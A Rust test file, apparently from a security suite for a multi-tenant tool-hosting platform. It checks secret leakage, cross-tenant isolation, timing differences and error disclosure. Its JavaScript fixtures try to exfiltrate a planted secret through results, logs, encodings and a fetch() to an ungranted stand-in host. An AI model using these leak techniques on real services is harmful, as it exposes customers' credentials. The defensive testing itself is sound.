//! Secrets, and what belongs to others.

use std::{
    sync::Arc,
    time::{Duration, Instant},
};

use base64::{Engine as _, prelude::BASE64_STANDARD};
use bench::load::percentile;
use reqwest::Method;
use serde_json::{Value, json};

use crate::{
    api::{self, Answer},
    case::{Case, Miss, Verdict, must},
    guest::{Code::JavaScript, deploy, source, usual},
    tenant::Tenant,
    upstream::hex,
    world::World,
};

const LEAKS: &str = "leaks";
const SECRET: &str = "hunter2-4f9a1c77e2-of-the-suite";

/// Pairs of questions whose times are compared.
const PAIRS: usize = 150;

/// What the medians may differ by: nobody measures less over a network.
const DIFFERENCE_MAX: Duration = Duration::from_millis(2);

pub(crate) fn cases() -> Vec<Case> {
    let tool = |name, body: &'static str| {
        Case::new(LEAKS, name, "the value is nowhere", move |world| async move {
            let (tenant, answer) = with_secret(&world, body).await?;
            nowhere(&world, &tenant, &answer).await
        })
    };
    vec![
        tool("a secret in the tool's result", r#"return { is: ctx.secret("KEY") };"#).quick(),
        tool("a secret in what is thrown", r#"throw new ToolError(`it is ${ctx.secret("KEY")}`);"#),
        tool(
            "a secret in a log line",
            r#"console.log(ctx.secret("KEY")); console.error([...ctx.secret("KEY")].join(" ")); return {};"#,
        ),
        tool(
            "a secret encoded and split",
            r#"const key = ctx.secret("KEY"); return { a: btoa(key), b: [...key], c: key.slice(0, 9), d: encodeURIComponent(key) };"#,
        ),
        tool(
            "a secret sent back by a granted host, also encoded or split",
            r#"const answer = await fetch("$UPSTREAM/mirror", { headers: { authorization: `Bearer ${ctx.secret("KEY")}` } }); return { text: await answer.text() };"#,
        ),
        tool(
            "a secret sent to a host that is not granted it",
            r#"const answer = await fetch("$OTHER/", { headers: { authorization: `Bearer ${ctx.secret("KEY")}` } }); return { text: await answer.text() };"#,
        ),
        tool(
            "a secret in a URL that fails",
            r#"await fetch(`$UPSTREAM/silent/../${ctx.secret("KEY")}?a=${ctx.secret("KEY")}`, { method: "TRACE" }); return {};"#,
        ),
        tool("a secret that was not granted", r#"return { is: ctx.secret("OTHER") };"#),
        Case::new(LEAKS, "another customer's things", "as if there were none", others_things).quick(),
        Case::new(LEAKS, "another customer's server at /mcp", "as if there were none", others_endpoint),
        Case::new(LEAKS, "timing of missing against not yours", "no difference to measure", timing),
        Case::new(LEAKS, "another customer's result in the cache", "each its own", same_source),
        Case::new(LEAKS, "faults and panics at the doors", "no path, no trace, no source", faults),
    ]
}

/// A tool that holds a secret for the upstream; what a call answers.
async fn with_secret(world: &World, body: &str) -> Result<(Tenant, Answer), Miss> {
    let tenant = world.tenant(&json!({"wall_ms_max": 3_000})).await?;
    let slug = world.name();
    tenant.create_server(&slug).await?;
    let secret = json!({"value": SECRET, "secret": true, "hosts": ["upstream.localhost"]});
    tenant.api().put(&format!("/api/v1/servers/{slug}/env/KEY"), &secret).await?.expect(200)?;
    let (upstream, other) = (world.upstream().port(), world.other().port());
    let grants = json!({"secrets": {"KEY": ["upstream.localhost"]}, "hosts": [
        {"scheme": "http", "host": "upstream.localhost", "port": upstream}, {"scheme": "http", "host": "other.localhost", "port": other},
    ]});
    let body = body.replace("$UPSTREAM", &format!("http://upstream.localhost:{upstream}"));
    let body = body.replace("$OTHER", &format!("http://other.localhost:{other}"));
    tenant.put(&slug, "attack", &source(&body), &grants).await?.expect(201)?;
    tenant.release(&slug).await?;
    tenant.api().request(Method::PATCH, &format!("/api/v1/servers/{slug}")).json(&json!({"keep_contents": "all"})).send().await?;
    let answer = tenant.api().call(&slug, "attack", &json!({})).await?;
    Ok((tenant, answer))
}

/// Checks that the secret is in no answer, no record, no log, no metric, and that no other host was sent it.
async fn nowhere(world: &World, tenant: &Tenant, answer: &Answer) -> Verdict {
    must(answer.status == 200, || format!("answered {}", answer.brief()))?;
    let record = tenant.record().await?;
    let shown = tenant.api().get(&format!("/api/v1/executions/{}", record["call_id"].as_str().unwrap_or_default())).await?;
    let metrics = world.admin().get("/metrics").await?;
    let audit = tenant.api().get("/api/v1/audit").await?;
    let env = tenant.api().get(&format!("/api/v1/servers/{}/env", record["server"].as_str().unwrap_or_default())).await?;
    let heads = world.other().heads().concat();
    for (place, text) in [
        ("the answer", &answer.text),
        ("the record", &shown.text),
        ("the metrics", &metrics.text),
        ("the audit log", &audit.text),
        ("the environment", &env.text),
        ("the log", &world.log()?),
        ("another host", &heads),
    ] {
        for form in [SECRET.to_owned(), BASE64_STANDARD.encode(SECRET), hex(SECRET)] {
            must(!text.contains(&form), || format!("it is in {place}"))?;
        }
    }
    Ok(format!("{}: {}", record["status"].as_str().unwrap_or_default(), answer.tool_text()).chars().take(57).collect())
}

async fn others_things(world: Arc<World>) -> Verdict {
    let (owner, other) = (world.tenant(&usual()).await?, world.tenant(&usual()).await?);
    let slug = deploy(&world, &owner, JavaScript("return 1;")).await?;
    owner.api().call(&slug, "attack", &json!({})).await?.expect(200)?;
    let record = owner.record().await?;
    let call = record["call_id"].as_str().unwrap_or_default();
    let missing_call = "01994c1e-5a6f-7c21-9f52-3b1d9a3f8a10";
    for (theirs, missing) in [
        (format!("/api/v1/servers/{slug}"), "/api/v1/servers/abuse-missing".to_owned()),
        (format!("/api/v1/servers/{slug}/tools"), "/api/v1/servers/abuse-missing/tools".to_owned()),
        (format!("/api/v1/servers/{slug}/tools/attack"), "/api/v1/servers/abuse-missing/tools/attack".to_owned()),
        (format!("/api/v1/servers/{slug}/releases"), "/api/v1/servers/abuse-missing/releases".to_owned()),
        (format!("/api/v1/servers/{slug}/env"), "/api/v1/servers/abuse-missing/env".to_owned()),
        (format!("/api/v1/servers/{slug}/access"), "/api/v1/servers/abuse-missing/access".to_owned()),
        (format!("/api/v1/executions/{call}"), format!("/api/v1/executions/{missing_call}")),
    ] {
        let (theirs, missing) = (other.api().get(&theirs).await?.expect(404)?, other.api().get(&missing).await?.expect(404)?);
        let told = |answer: &Answer| {
            let body = answer.text.replace(&answer.at("/request_id"), "").replace(&slug, "X").replace("abuse-missing", "X");
            body.replace(call, "C").replace(missing_call, "C")
        };
        must(told(&theirs) == told(&missing), || format!("{} against {}", theirs.text, missing.text))?;
    }
    let listed = other.api().get("/api/v1/servers").await?.text + &other.api().get("/api/v1/audit").await?.text;
    must(!listed.contains(&slug), || "its name is in a list".to_owned())?;
    Ok("404, in the same words as what is missing".to_owned())
}

async fn others_endpoint(world: Arc<World>) -> Verdict {
    let (owner, other) = (world.tenant(&usual()).await?, world.tenant(&usual()).await?);
    let slug = deploy(&world, &owner, JavaScript("return 1;")).await?;
    for api in [other.api().clone(), world.nobody(), world.nobody().by("tw_0000000000000000000000000000000000000000000")] {
        let theirs = api.call(&slug, "attack", &json!({})).await?;
        let missing = api.call("abuse-missing", "attack", &json!({})).await?;
        must(theirs.status == missing.status && [401, 403, 404].contains(&theirs.status), || {
            format!("answered {} against {}", theirs.brief(), missing.brief())
        })?;
        let challenge = |answer: &Answer, slug: &str| answer.header("www-authenticate").replace(slug, "X");
        must(challenge(&theirs, &slug) == challenge(&missing, "abuse-missing"), || "the challenges differ".to_owned())?;
    }
    Ok("the same answer as for one that is missing".to_owned())
}

async fn timing(world: Arc<World>) -> Verdict {
    let (owner, other) = (world.tenant(&usual()).await?, world.tenant(&usual()).await?);
    let slug = deploy(&world, &owner, JavaScript("return 1;")).await?;
    let (mut theirs, mut missing) = (Vec::new(), Vec::new());
    for _ in 0..PAIRS {
        for (slug, times) in [(slug.as_str(), &mut theirs), ("abuse-none", &mut missing)] {
            let begun = Instant::now();
            other.api().get(&format!("/api/v1/servers/{slug}")).await?.expect(404)?;
            times.push(begun.elapsed());
        }
    }
    theirs.sort_unstable();
    missing.sort_unstable();
    let difference = percentile(&theirs, 0.5).abs_diff(percentile(&missing, 0.5));
    must(difference < DIFFERENCE_MAX, || format!("the medians differ by {} us", difference.as_micros()))?;
    Ok(format!("medians differ by {} us", difference.as_micros()))
}

/// The same source of two customers is one artifact; what it reads is each one's own.
async fn same_source(world: Arc<World>) -> Verdict {
    let mut answers = Vec::new();
    for value in ["of-the-one", "of-the-other"] {
        let tenant = world.tenant(&usual()).await?;
        let slug = world.name();
        tenant.create_server(&slug).await?;
        tenant.api().put(&format!("/api/v1/servers/{slug}/env/UNITS"), &json!({"value": value})).await?.expect(200)?;
        let code = source(r#"globalThis.seen = (globalThis.seen ?? "") + ctx.env("UNITS"); return { seen: globalThis.seen };"#);
        tenant.put(&slug, "attack", &code, &json!({"env": ["UNITS"]})).await?.expect(201)?;
        tenant.release(&slug).await?;
        answers.push(tenant.api().call(&slug, "attack", &json!({})).await?.at("/result/structuredContent/seen"));
    }
    must(answers == ["of-the-one", "of-the-other"], || format!("{answers:?}"))?;
    Ok("each saw its own value".to_owned())
}

async fn faults(world: Arc<World>) -> Verdict {
    let tenant = world.tenant(&usual()).await?;
    for (method, path) in [
        (Method::GET, "/api/v1/servers/%00"),
        (Method::GET, "/api/v1/executions/not-an-id"),
        (Method::GET, "/api/v1/executions?cursor=%ff"),
        (Method::POST, "/api/v1/servers"),
        (Method::DELETE, "/api/v1/servers"),
        (Method::GET, "/oauth/authorize?client_id=%f0%28%8c%28"),
        (Method::POST, "/oauth/token"),
        (Method::PUT, "/admin/v1/tiers/free"),
        (Method::GET, "/nowhere"),
    ] {
        let answer = api::read(tenant.api().request(method.clone(), path).body("{\"a\":[")).await?;
        must((400..500).contains(&answer.status), || format!("{method} {path}: answered {}", answer.brief()))?;
        let told = ["panicked", ".rs:", "/root", "/work", "sqlx", "SELECT", "backtrace"]
            .into_iter()
            .find(|word| answer.text.contains(word));
        must(told.is_none(), || format!("{method} {path} tells {told:?}"))?;
    }
    must(!world.log()?.contains("panicked"), || "something panicked".to_owned())?;
    let _: Value = world.nobody().get("/health/ready").await?.expect(200)?.json();
    Ok("4xx in plain words".to_owned())
}
